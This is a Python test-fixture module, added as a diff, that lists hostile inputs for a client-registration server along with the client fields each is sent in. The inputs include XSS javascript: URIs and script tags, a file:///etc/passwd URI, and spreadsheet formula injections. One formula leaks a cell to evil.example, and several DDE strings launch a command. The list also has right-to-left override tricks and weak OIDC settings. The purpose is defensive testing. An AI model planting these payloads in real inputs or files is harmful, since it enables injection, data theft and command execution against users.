@@ -1,0 +1,115 @@
+"""The hostile values, and the fields of a client they are sent in (one row per field)."""
+
+from collections.abc import Callable
+from dataclasses import dataclass, field
+
+from server.models import Client
+
+HOSTILE_URIS = [
+    "javascript:alert(1)",
+    "JaVaScRiPt:alert(document.domain)",
+    "javascript://example.com/%0aalert(document.domain)",
+    " javascript:alert(1)",
+    "java\tscript:alert(1)",
+    "java\nscript:alert(1)",
+    "&#106;avascript:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "vbscript:msgbox(1)",
+    "file:///etc/passwd",
+    "https://user:password@example.com/",
+    "http://evil.example.com/",
+    'https://example.com/"><script>alert(1)</script>',
+    "https://example.com/\u202egnp.exe",
+    "https://example.com/\x00",
+    "https://example.com/" + "a" * 3000,
+]
+HOSTILE_TEXT = [
+    '=HYPERLINK("https://evil.example/?leak="&B2,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "Totally\u202eelgooG",
+    "bell\x07name",
+    "x" * 500,
+]
+
+# The clean settings every door starts from; a cell replaces one of them with a hostile value.
+BASE = {
+    "client_id": "",  # empty: the server makes one (only services and the import take one)
+    "name": "Matrix app",
+    "client_uri": "https://app.example.com/",
+    "logo_uri": "https://app.example.com/logo.png",
+    "redirect_uris": "https://app.example.com/callback",
+    "description": "An app of the matrix.",
+    "post_logout_redirect_uris": "https://app.example.com/logged-out",
+    "jwks_uri": "https://app.example.com/jwks.json",
+}
+# The OpenID Connect metadata that is not a URI: a door passes these on when a cell sets them.
+OIDC_SCALARS = ("id_token_signed_response_alg", "subject_type", "default_max_age", "require_auth_time")
+# Every one of them is refused by the policy, at every door that takes it.
+HOSTILE_OIDC_SCALARS = [
+    ("subject_type", "pairwise"),
+    ("subject_type", "none"),
+    ("id_token_signed_response_alg", "none"),
+    ("id_token_signed_response_alg", "HS256"),
+    ("default_max_age", "-1"),
+    ("default_max_age", "1.5"),
+    ("default_max_age", "99999999999"),
+]
+GOOD_OIDC_SCALARS = {
+    "subject_type": "public",
+    "id_token_signed_response_alg": "ES256",
+    "default_max_age": "600",
+}
+
+
+@dataclass(frozen=True)
+class Field:
+    """A client field its developer controls.
+
+    `read` gives the stored value as an RFC 7591 answer carries it (a list for redirect URIs);
+    `json_key` is its RFC 7591 metadata name (None: registration neither takes nor answers it);
+    `uri` says the stored value must pass `oracles.uri_is_safe` (`redirect`: as a redirect URI).
+    """
+
+    values: list[str]
+    read: Callable[[Client], str | list[str]]
+    json_key: str | None = None
+    uri: bool = False
+    redirect: bool = False
+    audit_key: str = field(default="")
+
+    def stored_strings(self, client: Client) -> list[str]:
+        value = self.read(client)
+        return list(value) if isinstance(value, list) else [value]
+
+
+FIELDS: dict[str, Field] = {
+    "client_id": Field(HOSTILE_TEXT, lambda c: c.client_id, json_key="client_id"),
+    "client_uri": Field(HOSTILE_URIS, lambda c: c.client_uri, json_key="client_uri", uri=True),
+    "logo_uri": Field(HOSTILE_URIS, lambda c: c.logo_uri, json_key="logo_uri", uri=True),
+    "redirect_uris": Field(
+        HOSTILE_URIS,
+        lambda c: c.redirect_uri_list,
+        json_key="redirect_uris",
+        uri=True,
+        redirect=True,
+        audit_key="redirect_uris",
+    ),
+    "name": Field(HOSTILE_TEXT, lambda c: c.name, json_key="client_name", audit_key="name"),
+    "description": Field(HOSTILE_TEXT, lambda c: c.description),
+    # Every hostile URI here is many cells at a few pages each: a third of them do.
+    "post_logout_redirect_uris": Field(
+        HOSTILE_URIS[::3],
+        lambda c: c.post_logout_redirect_uris.split(),
+        json_key="post_logout_redirect_uris",
+        uri=True,
+        redirect=True,
+    ),
+    # private_key_jwt's key URL (fetched through server.outbound); another third of the URIs.
+    "jwks_uri": Field(HOSTILE_URIS[1::3], lambda c: c.jwks_uri, json_key="jwks_uri", uri=True),
+}
